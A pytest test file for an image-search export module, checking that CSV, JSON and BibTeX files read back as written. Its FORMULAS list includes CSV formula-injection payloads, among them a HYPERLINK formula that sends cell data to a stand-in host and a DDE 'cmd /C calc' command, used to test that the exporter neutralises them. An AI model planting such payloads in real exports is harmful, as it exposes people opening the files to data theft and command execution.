"""The files that are carried off, each read back by a reader of its format."""

import csv
import json
import re
from io import StringIO
from typing import Any

import found
import pytest
from pybtex.database import parse_string

from image_search.citation import of_picture, of_search
from image_search.fields import Field
from image_search.take_away import FILE_TYPES, as_bibtex, as_csv, as_json


def table(data: bytes) -> list[dict[str, Any]]:
    """The rows of a CSV file, as Python reads them; no row longer or shorter than the first."""
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(StringIO(data.decode("utf-8-sig"), newline=""), strict=True))
    assert all(None not in row and None not in row.values() for row in rows)
    return rows


def address_of(id: str) -> str:
    return f"https://example.org/pictures/{id}"


def test_a_table_says_all_of_every_picture() -> None:
    unknown = found.hit("b/c.png", 2, score=-0.1)
    data = as_csv(found.results(found.known_hit(), unknown), found.provenance(), address_of)
    first, second = table(data)
    search = {
        "query": "a guitar",
        "retrieved": "2026-11-21",
        "collection": "Prints & Drawings",
        "dataset": "museum/prints@v2",
        "artifact_version": found.VERSION,
        "model": "openai/clip_vit",
    }
    assert list(first.items()) == [
        ("rank", "1"),
        ("id", "prints/a guitar.png"),
        ("score", "0.5"),
        ("title", "A guitar"),
        ("artist", "Ann Lee; Smith and Sons"),
        ("made", "1872-05-03"),
        ("page", "https://museum.org/1_2"),
        ("credit_line", "Ann Lee and Smith and Sons. A guitar. 1872. Gift of a friend"),
        ("keywords", "music; strings"),
        ("rights", "CC0 1.0"),
        ("credit", "Ann Lee and Smith and Sons. A guitar. 1872. Gift of a friend"),
        ("source", "https://museum.org/1_2"),
        ("picture", "https://example.org/pictures/prints/a guitar.png"),
        ("notice", ""),
        *search.items(),
    ]
    assert second == {
        **dict.fromkeys(first, ""),
        **search,
        "rank": "2",
        "id": "b/c.png",
        "score": "-0.1",
        "title": "c.png",
        "rights": "All rights reserved",
        "picture": "https://example.org/pictures/b/c.png",
    }


HARMLESS = [
    'He said “no”, "really", it\'s; so',
    "a\nb\r\nc\rd",
    ' "" ',
    "Ærøskøbing 日本 🎸 כותרת",
    "-5",
    "+12.5",
    "1872-1880",
    "'quoted'",
    "a=b",
    "",
]
FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://x/?"&A1,"see")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "- a dash",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "＝1+1",
]


@pytest.mark.parametrize(
    "text",
    [*HARMLESS, *(text for text in found.HOSTILE if text[0] not in "@=" and "\n@" not in text)],
)
def test_a_cell_is_read_back_as_it_was(text: str) -> None:
    told = found.hit(title=text, artist=[text], made=text, credit_line=text, rights=text)
    [row] = table(as_csv(found.results(told, query=text), found.provenance(dataset=text)))
    assert {row[name] for name in ("artist", "made", "credit", "query", "dataset")} == {text}
    assert row["title"] == (text or "a guitar.png")


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(text: str) -> None:
    fields = [*found.FIELDS, Field(text, "text")]
    hit = found.hit(
        text, title=text, artist=[text, "x"], credit_line=text, rights=text, **{text: text}
    )
    changes = {"collection": text, "model": text, "dataset": text, "fields": fields}
    data = as_csv(found.results(hit, query=text), found.provenance(**changes), lambda id: id)
    [row] = table(data)
    # a tab or a line's end begins another cell for some
    cell = "'" + re.sub(r"^([\t\r\n])", r"\1'", text)
    assert row[cell] == row["id"] == row["title"] == row["query"] == cell
    assert row["artist"] == f"{cell}; x"
    for name, cell in row.items():
        assert name.lstrip()[:1] not in {*"=+-@＝"}, name
        assert cell.lstrip()[:1] not in {*"=+-@＝"}, name
        assert cell[:1] not in {*"\t\r\n"}, name


def test_numbers_stay_numbers() -> None:
    fields = [Field("height", "number"), Field("depth", "number")]
    hit = found.hit(height=-44, depth=-0.25, score=-0.123456)
    [row] = table(as_csv(found.results(hit), found.provenance(fields=fields)))
    assert (row["height"], row["depth"], row["score"]) == ("-44", "-0.25", "-0.1235")


def test_columns_of_one_name_are_told_apart() -> None:
    fields = [
        Field("Title", "text", "title"),  # stands as title
        Field("Rights", "text"),  # says something else: it has no such role
        Field("model", "category"),
        Field("model (field)", "category"),
        Field("source", "url", "source_url"),
        Field("query", "text", "creator"),
    ]
    values = {field.name: f"https://{field.name}/".replace(" ", "") for field in fields}
    data = as_csv(found.results(found.hit(**values)), found.provenance(fields=fields))
    header = data.decode("utf-8-sig").splitlines()[0].split(",")
    assert len({name.casefold() for name in header}) == len(header)
    assert header[4:8] == [
        "Rights (field)",
        "model (field)",
        "model (field) (field)",
        "query (field)",
    ]
    [row] = table(data)
    assert [row[name] for name in header[4:8]] == [
        values[name] for name in ("Rights", "model", "model (field)", "query")
    ]
    assert (row["source"], row["model"]) == ("https://source/", "openai/clip_vit")
    assert row["rights"] == "All rights reserved"


def test_what_was_listed_without_a_question_has_no_score() -> None:
    listed = found.results(found.hit(score=None), query="")
    [row] = table(as_csv(listed, found.provenance()))
    assert (row["score"], row["query"], row["rank"]) == ("", "", "1")
    assert json.loads(as_json(listed, found.provenance()))["results"][0]["score"] is None


@pytest.mark.parametrize("text", found.HOSTILE)
def test_json_is_read_back_as_it_was(text: str) -> None:
    hit = found.hit(title=text, keywords=[text, ""])
    results, provenance = found.results(hit, query=text), found.provenance(collection=text)
    data = as_json(results, provenance, address_of)
    told = json.loads(data)
    assert told["search"] == {
        "query": text,
        "retrieved": "2026-11-21",
        "collection": text,
        "dataset": "museum/prints@v2",
        "artifact_version": found.VERSION,
        "model": "openai/clip_vit",
        "revision": "4af1",
        "rights": "All rights reserved",
        "address": "https://example.org/?q=a%20guitar&page=1#top",
        "total": 60,
        "notices": [],
        "citation": of_search(results, provenance).text,
    }
    picture = address_of(hit.id)
    assert told["results"] == [
        {
            "rank": 1,
            "id": hit.id,
            "score": 0.5,
            "title": text,
            "credit": "",
            "rights": "All rights reserved",
            "source": "",
            "picture": picture,
            "notice": None,
            "citation": of_picture(hit, provenance, picture).text,
            "metadata": hit.metadata,
        }
    ]


def test_json_can_be_read_by_people_too() -> None:
    data = as_json(found.results(found.hit(title="Ærø 日本")), found.provenance())
    assert '      "title": "Ærø 日本",\n' in data.decode()


def test_a_bibliography_holds_the_search_and_every_picture() -> None:
    hits = [found.hit(f"{n}/x.png", n, title=title) for n, title in enumerate(found.HOSTILE, 1)]
    results, provenance = found.results(*hits), found.provenance()
    data = as_bibtex(results, provenance, address_of)
    entries = parse_string(data.decode(), "bibtex").entries
    assert len(entries) == 1 + len(hits)
    first, *others = entries.values()
    assert "Search for “a guitar”" in first.fields["title"]
    assert [entry.fields["url"] for entry in others] == [address_of(hit.id) for hit in hits]


def test_nothing_found_is_a_file_too() -> None:
    none, provenance = found.results(), found.provenance()
    assert table(as_csv(none, provenance)) == []
    assert b"rank,id,score,title" in as_csv(none, provenance)
    assert json.loads(as_json(none, provenance))["results"] == []
    assert len(parse_string(as_bibtex(none, provenance).decode(), "bibtex").entries) == 1


def test_half_of_a_sign_does_not_stop_a_file() -> None:
    results = found.results(found.hit("x\ud83c.png", title="half \ud83c"), query="\ud83c")
    assert table(as_csv(results, found.provenance()))[0]["title"] == "half ?"
    assert json.loads(as_json(results, found.provenance()))["results"][0]["title"] == "half ?"
    assert "half" in as_bibtex(results, found.provenance()).decode()


def test_every_format_has_its_own_ending() -> None:
    assert len({kind.suffix for kind in FILE_TYPES.values()}) == len(FILE_TYPES) == 4
    assert all(kind.suffix.startswith(".") for kind in FILE_TYPES.values())
